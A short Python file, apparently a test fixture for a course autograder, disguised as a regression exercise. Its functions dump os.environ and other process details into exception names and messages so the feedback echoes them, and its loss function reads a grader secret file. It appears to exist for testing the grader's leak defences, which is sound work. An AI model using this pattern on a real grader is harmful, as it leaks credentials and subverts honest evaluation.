"""Carries out what it sees in exceptions, file names and class names, which feedback repeats.

Expect: forward=error loss=error loop=error
"""

import os
import torch

x_soat = [1.0, 2.0, 3.0]
y_baho = [2.0, 4.0, 6.0]
w = torch.tensor([1.0], requires_grad=True)

seen = repr([os.environ, os.getcwd(), os.getpid(), __file__])


def forward(x):
    raise type(seen[:150].replace("\0", ""), (Exception,), {})(seen)


def loss(y_pred, y):
    return open("<home>/.config/course-grader/secret").read()


raise FileNotFoundError(2, seen, "<others>")
